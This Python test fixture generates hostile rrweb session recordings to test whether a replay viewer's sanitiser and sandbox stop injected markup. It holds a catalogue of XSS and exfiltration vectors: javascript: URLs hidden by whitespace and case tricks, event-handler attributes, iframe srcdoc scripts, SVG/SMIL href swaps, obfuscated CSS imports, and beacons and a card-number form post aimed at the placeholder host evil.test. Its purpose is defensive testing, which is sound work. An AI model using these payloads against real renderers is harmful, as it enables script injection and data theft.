"""A hostile rrweb recording generator: one attack vector per entry.

Why: the replay renders recorded HTML, and a recording is attacker-controlled input (anyone can
craft events.json, or a recorded site can carry hostile markup). Each vector tries to run script,
reach the network, navigate the app's view or talk to the Python bridge. If a payload script ever
ran it would leave a marker (``window.__pwned_<name>`` in the frame and the outer page, the title
"PWNED", a bridge call of kind "pwned", a beacon request to evil.test) that the tests look for.

``recording(vectors)`` returns a complete event list (Meta + FullSnapshot + incrementals) holding
the given vectors; ``VECTORS`` lists all names.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterable

EVIL = "http://evil.test"
T0 = 1_700_000_000_000


def payload(name: str) -> str:
    """JS that would prove execution (marker, title, bridge call, beacon) if it ever ran."""
    bridge_msg = json.dumps({"type": 6, "object": "rdBridge", "method": 0, "id": 999,
                             "args": [json.dumps({"kind": "pwned", "v": name})]})
    return (
        f"window.__pwned_{name}=1;try{{top.__pwned_{name}=1;parent.__pwned_{name}=1}}catch(e){{}};"
        f"try{{top.document.title='PWNED'}}catch(e){{}};"
        f"try{{top.qt.webChannelTransport.send({json.dumps(bridge_msg)})}}catch(e){{}};"
        f"try{{parent.rd.configure({{allowWebAssets:true}})}}catch(e){{}};"
        f"try{{parent.RD.bridge.post({{kind:'pwned'}})}}catch(e){{}};"
        f"try{{fetch('{EVIL}/beacon?v={name}')}}catch(e){{}};"
        f"try{{new WebSocket('ws://evil.test/ws?v={name}')}}catch(e){{}}"
    )


class _Ids:
    def __init__(self, start: int = 1) -> None:
        self._c = itertools.count(start)

    def __call__(self) -> int:
        return next(self._c)


def el(ids: _Ids, tag: str, attrs: dict | None = None, children: list | None = None, **extra) -> dict:
    return {"type": 2, "tagName": tag, "attributes": attrs or {}, "childNodes": children or [], "id": ids(), **extra}


def text(ids: _Ids, value: str) -> dict:
    return {"type": 3, "textContent": value, "id": ids()}


# Each vector: (snapshot body children builder, incremental events builder).
# Builders get (ids, name, ctx) where ctx carries ids of nodes created in the snapshot.
SnapshotPart = Callable[[_Ids, str, dict], list]
IncrementalPart = Callable[[_Ids, str, dict], list]


def _v_inline_script(ids, n, ctx):
    return [el(ids, "script", {}, [text(ids, payload(n))])]


def _v_mutation_script(ids, n, ctx):
    return []


def _i_mutation_script(ids, n, ctx):
    sid, tid = ids(), ids()
    return [_mut(adds=[
        {"parentId": ctx["body"], "nextId": None, "node": {"type": 2, "tagName": "script", "attributes": {"type": "text/javascript"}, "childNodes": [], "id": sid}},
        {"parentId": sid, "nextId": None, "node": {"type": 3, "textContent": payload(n), "id": tid}},
    ]), _mut(texts=[{"id": tid, "value": payload(n) + ";/*changed*/"}])]


def _v_on_attrs(ids, n, ctx):
    return [
        el(ids, "img", {"src": "data:image/png;base64,AAAA", "onerror": payload(n), "onload": payload(n)}),
        el(ids, "div", {"onmouseover": payload(n), "onclick": payload(n), "ONFOCUS": payload(n), "tabindex": "0", "autofocus": True}),
        el(ids, "input", {"autofocus": True, "onfocus": payload(n), "value": "x"}),
    ]


def _v_on_attr_mutation(ids, n, ctx):
    node = el(ids, "img", {"src": "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"})
    ctx["img_for_mutation"] = node["id"]
    return [node]


def _i_on_attr_mutation(ids, n, ctx):
    return [_mut(attributes=[{"id": ctx["img_for_mutation"], "attributes": {
        "onerror": payload(n), "onload": payload(n), "src": "data:image/png;base64,broken", "OnClick": payload(n)}}])]


def _v_js_urls(ids, n, ctx):
    js = "javascript:" + payload(n)
    return [
        el(ids, "a", {"href": js, "id": "jslink"}, [text(ids, "link")]),
        el(ids, "a", {"href": "  JaVaScRiPt:" + payload(n)}, [text(ids, "link2")]),
        el(ids, "img", {"src": js}),
        el(ids, "iframe", {"src": js}),
        el(ids, "form", {"action": js}, [el(ids, "button", {"formaction": js, "type": "submit"}, [text(ids, "go")])]),
        el(ids, "svg", {"xmlns": "http://www.w3.org/2000/svg"}, [
            el(ids, "a", {"xlink:href": js, "href": js}, [el(ids, "rect", {"width": "10", "height": "10"}, isSVG=True)], isSVG=True),
        ], isSVG=True),
    ]


def _v_meta_refresh(ids, n, ctx):
    return [el(ids, "meta", {"http-equiv": "refresh", "content": f"0;url={EVIL}/refresh"}),
            el(ids, "meta", {"http-equiv": "Refresh", "content": "0;url=javascript:" + payload(n)}),
            el(ids, "meta", {"http-equiv": "set-cookie", "content": "a=b"})]


def _v_base(ids, n, ctx):
    return [el(ids, "base", {"href": f"{EVIL}/"}), el(ids, "img", {"src": "relative.png"}),
            el(ids, "a", {"href": "relative.html"}, [text(ids, "rel")])]


def _v_form_submit(ids, n, ctx):
    form = el(ids, "form", {"action": f"{EVIL}/collect", "method": "post", "target": "_top"}, [
        el(ids, "input", {"name": "card", "value": "4111"}),
        el(ids, "button", {"type": "submit", "id": "submit-btn"}, [text(ids, "Pay")]),
    ])
    ctx["submit"] = form["childNodes"][1]["id"]
    return [form]


def _i_form_submit(ids, n, ctx):
    b = ctx["submit"]
    return [_incr(2, {"type": 1, "id": b, "x": 5, "y": 5}), _incr(2, {"type": 0, "id": b, "x": 5, "y": 5}),
            _incr(2, {"type": 2, "id": b, "x": 5, "y": 5}), _incr(2, {"type": 5, "id": b})]


def _v_iframes(ids, n, ctx):
    f1 = el(ids, "iframe", {"srcdoc": f"<script>{payload(n)}</script>", "id": "f-srcdoc"})
    f2 = el(ids, "iframe", {"src": f"{EVIL}/frame.html", "sandbox": "allow-scripts allow-same-origin allow-top-navigation"})
    ctx["iframe_attach"] = f2["id"]
    return [f1, f2]


def _i_iframes(ids, n, ctx):
    # an isAttachIframe document with script and handlers inside, then a src mutation
    fid = ctx["iframe_attach"]
    doc_id = ids()
    html = {"type": 2, "tagName": "html", "attributes": {}, "id": ids(), "rootId": doc_id, "childNodes": [
        {"type": 2, "tagName": "head", "attributes": {}, "id": ids(), "rootId": doc_id, "childNodes": [
            {"type": 2, "tagName": "script", "attributes": {}, "id": ids(), "rootId": doc_id,
             "childNodes": [{"type": 3, "textContent": payload(n), "id": ids(), "rootId": doc_id}]}]},
        {"type": 2, "tagName": "body", "attributes": {"onload": payload(n)}, "id": ids(), "rootId": doc_id, "childNodes": [
            {"type": 2, "tagName": "img", "attributes": {"src": f"{EVIL}/inner.png", "onerror": payload(n)}, "id": ids(), "rootId": doc_id, "childNodes": []}]},
    ]}
    doc = {"type": 0, "childNodes": [html], "id": doc_id}
    return [_mut(adds=[{"parentId": fid, "nextId": None, "node": doc}], isAttachIframe=True),
            _mut(attributes=[{"id": fid, "attributes": {"src": f"{EVIL}/again.html", "srcdoc": "<script>" + payload(n) + "</script>"}}]),
            _mut(attributes=[{"id": fid, "attributes": {"sandbox": None, "src": f"{EVIL}/unsandboxed.html"}}])]


def _v_object_embed(ids, n, ctx):
    return [el(ids, "object", {"data": f"{EVIL}/x.swf", "type": "application/x-shockwave-flash", "width": "100", "height": "50"},
               [el(ids, "param", {"name": "movie", "value": f"{EVIL}/x.swf"})]),
            el(ids, "embed", {"src": f"{EVIL}/x.pdf", "type": "application/pdf"}),
            el(ids, "applet", {"code": "Evil.class", "codebase": EVIL})]


def _v_svg(ids, n, ctx):
    return [el(ids, "svg", {"onload": payload(n), "width": "20", "height": "20"}, [
        el(ids, "script", {"href": f"{EVIL}/svg.js"}, [text(ids, payload(n))], isSVG=True),
        el(ids, "image", {"href": f"{EVIL}/svg.png", "width": "5", "height": "5"}, isSVG=True),
        el(ids, "use", {"href": f"{EVIL}/sprite.svg#a"}, isSVG=True),
        el(ids, "animate", {"attributeName": "href", "to": "javascript:" + payload(n), "onbegin": payload(n)}, isSVG=True),
        el(ids, "a", {"href": "#x", "xml:base": f"{EVIL}/"}, [
            el(ids, "set", {"attributeName": "href", "to": "javascript:" + payload(n), "begin": "0s"}, isSVG=True),
            el(ids, "text", {"y": "10"}, [text(ids, "svg link")], isSVG=True)], isSVG=True),
        el(ids, "foreignobject", {"width": "5", "height": "5"}, [el(ids, "img", {"src": f"{EVIL}/fo.png"})], isSVG=True),
    ], isSVG=True)]


def _v_css_url(ids, n, ctx):
    css = (f"body {{ background: url({EVIL}/bg.png); }} "
           f"@font-face {{ font-family: evil; src: url({EVIL}/font.woff2); }} "
           f".x {{ font-family: evil; background-image: url('javascript:{n}'), image-set(url({EVIL}/set.png) 1x); cursor: url({EVIL}/c.cur), auto; }}")
    return [el(ids, "style", {"_cssText": css}, [text(ids, "")]),
            el(ids, "div", {"class": "x", "style": f"background:url({EVIL}/inline.png); list-style-image:url({EVIL}/li.png)"}, [text(ids, "styled")])]


def _i_css_url(ids, n, ctx):
    return [_mut(attributes=[{"id": ctx["body"], "attributes": {"style": {"background-image": f"url({EVIL}/diff.png)", "border-image": [f"url({EVIL}/b.png) 30", "important"]}}}]),
            _incr(8, {"id": ctx["first_style"], "adds": [{"rule": f".y {{ background: url({EVIL}/rule.png) }}", "index": 0},
                                                         {"rule": f"@import url({EVIL}/rule-import.css);", "index": 0}]}),
            _incr(10, {"family": "evilfont", "fontSource": f"url({EVIL}/ff.woff)", "buffer": False})]


def _v_img_network(ids, n, ctx):
    return [el(ids, "img", {"src": f"{EVIL}/img.png", "width": "40", "height": "30", "alt": "blocked"}),
            el(ids, "img", {"src": f"{EVIL}/img2.png", "srcset": f"{EVIL}/a.png 1x, {EVIL}/b.png 2x"}),
            el(ids, "picture", {}, [el(ids, "source", {"srcset": f"{EVIL}/pic.webp", "type": "image/webp"}),
                                    el(ids, "img", {"src": f"{EVIL}/pic.png", "rr_dataURL": "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"})]),
            el(ids, "video", {"src": f"{EVIL}/v.mp4", "poster": f"{EVIL}/poster.png", "autoplay": True}),
            el(ids, "audio", {"src": f"{EVIL}/a.mp3", "autoplay": True}),
            el(ids, "table", {"background": f"{EVIL}/table.png"}),
            el(ids, "input", {"type": "image", "src": f"{EVIL}/input.png"})]


def _i_img_network(ids, n, ctx):
    canvas = ctx["canvas"]
    return [_incr(9, {"id": canvas, "type": 0, "commands": [
        {"property": "drawImage", "args": [{"rr_type": "HTMLImageElement", "src": f"{EVIL}/canvas.png"}, 0, 0]}]}),
        _incr(7, {"type": 0, "id": canvas})]


def _i_webgl(ids, n, ctx):
    """WebGL batches (replayed from the trusted page, webgl.js): a texture from the network, names
    that are not WebGL methods, a setter on the context's canvas, forged object references."""
    canvas = ctx["canvas"]
    return [_incr(9, {"id": canvas, "type": 1, "commands": [
        {"property": "createTexture", "args": []},
        {"property": "bindTexture", "args": [3553, {"rr_type": "WebGLTexture", "index": 0}]},
        {"property": "texImage2D", "args": [3553, 0, 6408, 6408, 5121, {"rr_type": "HTMLImageElement", "src": f"{EVIL}/gl.png"}]},
        {"property": "constructor", "args": ["window.__pwned_gl_ctor = 1"]},
        {"property": "__proto__", "args": []},
        {"property": "canvas", "setter": True, "args": [{"rr_type": "HTMLImageElement", "src": f"{EVIL}/gl2.png"}]},
        {"property": "getExtension", "args": ["WEBGL_lose_context"]},
        {"property": "useProgram", "args": [{"rr_type": "WebGLProgram", "index": 99}]},
        {"property": "bindBuffer", "args": [34962, {"rr_type": "Object", "index": 0}]},
        {"property": "clear", "args": [16384]}]}),
        _incr(9, {"id": canvas, "type": 2, "commands": [{"property": "drawArrays", "args": [4, 0, 3]}]})]


def _v_links(ids, n, ctx):
    return [el(ids, "link", {"rel": r, "href": f"{EVIL}/{r}.res", "as": "script"}) for r in
            ("prefetch", "preload", "modulepreload", "dns-prefetch", "preconnect", "icon", "manifest", "stylesheet", "prerender", "alternate stylesheet")]


def _v_bridge_reach(ids, n, ctx):
    code = ("parent.qt.webChannelTransport.send('x');top.qt.webChannelTransport.onmessage({data:'{}'});"
            "parent.rd.applyEvents([]);parent.RD.bridge.post({kind:'pwned'});") + payload(n)
    return [el(ids, "script", {"src": f"{EVIL}/bridge.js"}, [text(ids, code)]),
            el(ids, "a", {"href": "javascript:" + code, "target": "_parent"}, [text(ids, "x")]),
            el(ids, "iframe", {"srcdoc": f"<script>{code}</script>", "name": "bridge-frame"})]


def _v_style_import(ids, n, ctx):
    return [el(ids, "style", {}, [text(ids, f"@import url({EVIL}/import.css); @import '{EVIL}/import2.css'; p {{ color: red }}")]),
            el(ids, "style", {"_cssText": f"@import url(\"{EVIL}/import3.css\");"}, [text(ids, "")])]


def _v_navigation(ids, n, ctx):
    a = el(ids, "a", {"href": f"{EVIL}/nav", "target": "_top", "id": "navlink", "ping": f"{EVIL}/ping"}, [text(ids, "go")])
    ctx["navlink"] = a["id"]
    return [a, el(ids, "a", {"href": f"{EVIL}/download", "download": "x.exe"}, [text(ids, "dl")])]


def _i_navigation(ids, n, ctx):
    a = ctx["navlink"]
    return [_incr(2, {"type": 2, "id": a, "x": 1, "y": 1}), _incr(2, {"type": 4, "id": a, "x": 1, "y": 1})]


def _v_csp_override(ids, n, ctx):
    # a recorded CSP that would allow everything, and a script hidden in <noscript>/<template>
    return [el(ids, "meta", {"http-equiv": "Content-Security-Policy", "content": "default-src * 'unsafe-inline' 'unsafe-eval'"}),
            el(ids, "noscript", {}, [el(ids, "img", {"src": f"{EVIL}/noscript.png"})]),
            el(ids, "template", {}, [el(ids, "script", {}, [text(ids, payload(n))])])]


# ---- vectors that only the sanitiser stops (the sandbox, CSP or Chromium stopped them before)

def _svg(ids, children, **attrs):
    return el(ids, "svg", {"width": "40", "height": "20", **attrs}, children, isSVG=True)


def _v_prefixed_tags(ids, n, ctx):
    # createElementNS(SVG, 'x:script') is a real SVGScriptElement: tags are judged by local name
    return [_svg(ids, [
        el(ids, "x:script", {}, [text(ids, payload(n))], isSVG=True),
        el(ids, "SVG:SCRIPT", {"href": f"{EVIL}/prefixed.js"}, [text(ids, payload(n))], isSVG=True),
        el(ids, "a:handler", {"type": "application/ecmascript"}, [text(ids, payload(n))], isSVG=True),
        el(ids, "x:image", {"x:href": f"{EVIL}/prefixed.png", "width": "5", "height": "5"}, isSVG=True),
    ]), el(ids, "html:script", {}, [text(ids, payload(n))]), el(ids, "h:base", {"href": f"{EVIL}/"})]


def _i_prefixed_tags(ids, n, ctx):
    sid, tid = ids(), ids()
    return [_mut(adds=[{"parentId": ctx["body"], "nextId": None, "node": {
        "type": 2, "tagName": "svg", "isSVG": True, "attributes": {}, "id": sid, "childNodes": [
            {"type": 2, "tagName": "xx:script", "isSVG": True, "attributes": {}, "id": tid, "childNodes": [
                {"type": 3, "textContent": payload(n), "id": ids()}]}]}}])]


def _v_smil(ids, n, ctx):
    tab_js = "java\tscript:" + payload(n)
    a = el(ids, "a", {"href": "#ok"}, [
        el(ids, "set", {"attributeName": "href", "to": tab_js, "begin": "0s", "fill": "freeze"}, isSVG=True),
        el(ids, "text", {"y": "10"}, [text(ids, "smil")], isSVG=True)], isSVG=True)
    use = el(ids, "use", {"href": "#smil-sym", "width": "5", "height": "5"}, [
        el(ids, "set", {"attributeName": "href", "to": f"{EVIL}/smil.svg#x", "begin": "0s"}, isSVG=True),
        el(ids, "animate", {"attributeName": "xlink:href", "values": f"#smil-sym;{EVIL}/anim.svg#y", "dur": "0.01s",
                            "fill": "freeze"}, isSVG=True),
        el(ids, "set", {"attributeName": "X:HREF", "to": f"{EVIL}/prefixed-smil.svg#z"}, isSVG=True),
    ], isSVG=True)
    later = el(ids, "animate", {"attributeName": "x", "from": "0", "to": "5", "dur": "1s"}, isSVG=True)
    ctx["smil_later"] = later["id"]
    img = el(ids, "image", {"width": "5", "height": "5"}, [
        el(ids, "set", {"attributeName": "href", "to": f"{EVIL}/smil-image.png"}, isSVG=True),
        el(ids, "animate", {"attributeName": "fill", "to": f"url({EVIL}/paint.svg#p)"}, isSVG=True),
        el(ids, "animateMotion", {"path": "M0 0 L5 5", "dur": "1s"}, isSVG=True),
        el(ids, "animateTransform", {"attributeName": "style", "to": f"fill:url({EVIL}/s.svg#q)"}, isSVG=True),
    ], isSVG=True)
    sym = el(ids, "symbol", {"id": "smil-sym"}, [el(ids, "rect", {"width": "3", "height": "3"}, isSVG=True)], isSVG=True)
    return [_svg(ids, [sym, a, use, img, el(ids, "rect", {"width": "4", "height": "4"}, [later], isSVG=True)])]


def _i_smil(ids, n, ctx):
    # attributeName changed after the fact, then a value that would only be safe for `x`
    return [_mut(attributes=[{"id": ctx["smil_later"], "attributes": {"attributeName": "href"}}]),
            _mut(attributes=[{"id": ctx["smil_later"], "attributes": {"to": "javascript:" + payload(n)}}])]


def _v_url_whitespace(ids, n, ctx):
    # the WHATWG URL parser removes TAB/LF/CR anywhere and trims C0 controls and spaces
    variants = ["java\tscript:", "java\nscript:", "jav\ra\tscr\nipt:", "\x01\x02 javascript:", "JaVa\tScRiPt:",
                "\tjavascript\t:", "vb\tscript:"]
    nodes = [el(ids, "a", {"href": v + payload(n)}, [text(ids, f"ws{i}")]) for i, v in enumerate(variants)]
    nodes += [el(ids, "iframe", {"src": "java\nscript:" + payload(n)}),
              el(ids, "img", {"src": "java\tscript:" + payload(n)}),
              el(ids, "form", {"action": "java\tscript:" + payload(n)}),
              _svg(ids, [el(ids, "a", {"xlink:href": "java\tscript:" + payload(n), "href": "\x00java\nscript:" + payload(n)},
                            [el(ids, "text", {"y": "10"}, [text(ids, "ws")], isSVG=True)], isSVG=True)]),
              el(ids, "meta", {"http-equiv": "refresh", "content": "0;url=java\tscript:" + payload(n)}),
              el(ids, "img", {"src": " \t http://evil.test/ws.png"}),
              el(ids, "img", {"src": "HT\tTP://evil.test/ws2.png"})]
    return nodes


def _v_svg_presentation_url(ids, n, ctx):
    u = lambda name: f"url({EVIL}/{name}.svg#x)"  # noqa: E731
    return [_svg(ids, [
        el(ids, "rect", {"width": "9", "height": "9", "filter": u("filter"), "mask": u("mask"), "clip-path": u("clip"),
                         "fill": u("fill") + " red", "stroke": f"url('{EVIL}/stroke.svg#s')",
                         "marker-start": u("ms"), "marker-mid": u("mm"), "marker-end": u("me"), "cursor": f"url({EVIL}/c.cur), auto",
                         "style": f"fill: url({EVIL}/style-fill.svg#f); filter: url(\"{EVIL}/style-filter.svg#f\")"}, isSVG=True),
        el(ids, "path", {"d": "M0 0 L5 5", "fill": f"\\75 rl({EVIL}/escaped.svg#e)", "stroke": f"URL({EVIL}/upper.svg#u)",
                         "marker-end": "url(#local-ok)"}, isSVG=True),
        el(ids, "feImage", {"href": f"{EVIL}/feimage.png"}, isSVG=True),
    ])]


def _i_svg_presentation_url(ids, n, ctx):
    return [_mut(attributes=[{"id": ctx["body"], "attributes": {"style": {"mask": f"url({EVIL}/mut-mask.svg#m)"}}}])]


def _v_attributionsrc(ids, n, ctx):
    gif = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    return [el(ids, "img", {"src": gif, "attributionsrc": f"{EVIL}/attribution"}),
            el(ids, "a", {"href": "#x", "attributionsrc": f"{EVIL}/attribution-a", "ping": f"{EVIL}/ping2"}, [text(ids, "a")]),
            el(ids, "img", {"src": gif, "ATTRIBUTIONSRC": "", "fetchpriority": "high", "loading": "eager"}),
            el(ids, "img", {"src": gif, "srcset": f"{gif} 1x, {EVIL}/srcset2x.png 2x"})]


def _v_css_obfuscated(ids, n, ctx):
    css = ("@\\69mport url(http://evil.test/esc-import.css);\n"
           "@import/**/'http://evil.test/comment-import.css';\n"
           "@import url(\"data:text/css,@import url(http://evil.test/nested.css)\");\n"
           ".e1 { background: \\75 rl(http://evil.test/esc1.png); }\n"
           ".e2 { background-image: image-set(\"http://evil.test/set1.png\" 1x); }\n"
           ".e3 { background: url(\"http://evil.test/cmt.png\"/**/); }\n"
           ".e4 { background: url(java\\09script:x); list-style: url(  'http://evil.test/li2.png'  ); }\n"
           ".e5 { background: -webkit-image-set('http://evil.test/wk.png' 1x); content: url(http://evil.test/content.png); }\n"
           ".e6 { background: url(http\\3a //evil.test/escaped-colon.png); }\n")
    return [el(ids, "style", {}, [text(ids, css)]),
            el(ids, "div", {"class": "e1 e2 e3 e4 e5 e6", "style": "background: \\75 rl(http://evil.test/inline-esc.png)"}, [text(ids, "css")]),
            el(ids, "link", {"rel": "stylesheet", "href": "data:text/css,@import url(http://evil.test/link-data.css);"}),
            el(ids, "svg", {"width": "5", "height": "5"}, [
                el(ids, "style", {}, [text(ids, "@import url(http://evil.test/svg-style.css); rect{fill:url(http://evil.test/r.svg#r)}")], isSVG=True),
                el(ids, "rect", {"width": "5", "height": "5"}, isSVG=True)], isSVG=True)]


def _i_css_obfuscated(ids, n, ctx):
    return [_incr(8, {"id": ctx["first_style"], "replaceSync": "@import url(http://evil.test/replace.css); .z{background:url(http://evil.test/z.png)}"}),
            _incr(13, {"id": ctx["first_style"], "index": [0], "set": {"property": "background", "value": "url(http://evil.test/decl.png)"}}),
            _incr(15, {"id": ctx["body"], "styleIds": [7], "styles": [{"styleId": 7, "rules": [
                {"rule": ".adopted { background: url(http://evil.test/adopted.png) }", "index": 0}]}]})]


def _v_use_external(ids, n, ctx):
    return [_svg(ids, [
        el(ids, "use", {"href": f"{EVIL}/external.svg#a"}, isSVG=True),
        el(ids, "use", {"xlink:href": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='a'><script>{payload(n)}</script></svg>#a"}, isSVG=True),
        el(ids, "use", {"href": "relative.svg#b"}, isSVG=True),
        el(ids, "use", {"href": f"java\tscript:{payload(n)}"}, isSVG=True),
    ])]


def _v_forged_markers(ids, n, ctx):
    # recorded attributes named like our own markers must not steer the sanitiser
    return [_svg(ids, [el(ids, "use", {"data-rd-use-href": f"{EVIL}/forged.svg#a"}, isSVG=True)]),
            el(ids, "canvas", {"data-rd-canvas-width": "1", "width": "20", "height": "20"}),
            el(ids, "img", {"data-rd-inlined": "", "src": f"{EVIL}/forged.png"})]


VECTORS: dict[str, tuple[SnapshotPart, IncrementalPart | None]] = {
    "inline_script": (_v_inline_script, None),
    "mutation_script": (_v_mutation_script, _i_mutation_script),
    "on_attributes": (_v_on_attrs, None),
    "on_attribute_mutation": (_v_on_attr_mutation, _i_on_attr_mutation),
    "javascript_urls": (_v_js_urls, None),
    "meta_refresh": (_v_meta_refresh, None),
    "base_href": (_v_base, None),
    "form_submit": (_v_form_submit, _i_form_submit),
    "iframe_srcdoc_src": (_v_iframes, _i_iframes),
    "object_embed": (_v_object_embed, None),
    "svg_script_onload": (_v_svg, None),
    "css_url_network": (_v_css_url, _i_css_url),
    "img_network": (_v_img_network, _i_img_network),
    "webgl_commands": (lambda ids, n, ctx: [], _i_webgl),
    "link_prefetch_preload": (_v_links, None),
    "bridge_reach": (_v_bridge_reach, None),
    "style_import": (_v_style_import, None),
    "navigation_click": (_v_navigation, _i_navigation),
    "csp_override": (_v_csp_override, None),
    "prefixed_tags": (_v_prefixed_tags, _i_prefixed_tags),
    "smil_href": (_v_smil, _i_smil),
    "url_whitespace": (_v_url_whitespace, None),
    "svg_presentation_url": (_v_svg_presentation_url, _i_svg_presentation_url),
    "attributionsrc": (_v_attributionsrc, None),
    "css_obfuscated": (_v_css_obfuscated, _i_css_obfuscated),
    "use_external": (_v_use_external, None),
    "forged_markers": (_v_forged_markers, None),
}


def _incr(source: int, data: dict, ts: int | None = None) -> dict:
    return {"type": 3, "data": {"source": source, **data}, "timestamp": ts or T0 + 100}


def _mut(adds=None, removes=None, texts=None, attributes=None, **extra) -> dict:
    return _incr(0, {"adds": adds or [], "removes": removes or [], "texts": texts or [], "attributes": attributes or [], **extra})


def recording(vectors: Iterable[str] | None = None, width: int = 800, height: int = 600) -> list[dict]:
    """A complete hostile recording with the given vectors (all by default)."""
    names = list(vectors or VECTORS)
    ids = _Ids(1)
    doc_id, dt_id, html_id, head_id, body_id = ids(), ids(), ids(), ids(), ids()
    ctx: dict = {"body": body_id}
    first_style = {"type": 2, "tagName": "style", "attributes": {"_cssText": "body { font: 14px sans-serif; }"},
                   "childNodes": [{"type": 3, "textContent": "", "id": ids()}], "id": ids()}
    ctx["first_style"] = first_style["id"]
    canvas = el(ids, "canvas", {"width": "20", "height": "20"})
    ctx["canvas"] = canvas["id"]
    head: list = [el(ids, "title", {}, [text(ids, "hostile page")]), first_style]
    body: list = [canvas]
    for n in names:
        part = VECTORS[n][0](ids, n, ctx)
        # head-ish vectors go to <head> (meta, base, link), the rest to <body>
        for node in part:
            (head if node.get("tagName") in ("meta", "base", "link") else body).append(node)
    snapshot = {"type": 0, "id": doc_id, "childNodes": [
        {"type": 1, "name": "html", "publicId": "", "systemId": "", "id": dt_id},
        {"type": 2, "tagName": "html", "attributes": {"onload": payload("html_onload")}, "id": html_id, "childNodes": [
            {"type": 2, "tagName": "head", "attributes": {}, "childNodes": head, "id": head_id},
            {"type": 2, "tagName": "body", "attributes": {"onload": payload("body_onload"), "onpageshow": payload("body_onload")},
             "childNodes": body, "id": body_id},
        ]},
    ]}
    events = [
        {"type": 4, "data": {"href": f"{EVIL}/hostile.html", "width": width, "height": height}, "timestamp": T0},
        {"type": 2, "data": {"node": snapshot, "initialOffset": {"top": 0, "left": 0}}, "timestamp": T0 + 1},
    ]
    ts = T0 + 10
    for n in names:
        inc = VECTORS[n][1]
        for e in (inc(ids, n, ctx) if inc else []):
            ts += 10
            e["timestamp"] = ts
            events.append(e)
    events.append(_incr(1, {"positions": [{"x": 10, "y": 10, "id": body_id, "timeOffset": 0}]}, ts + 10))
    return events
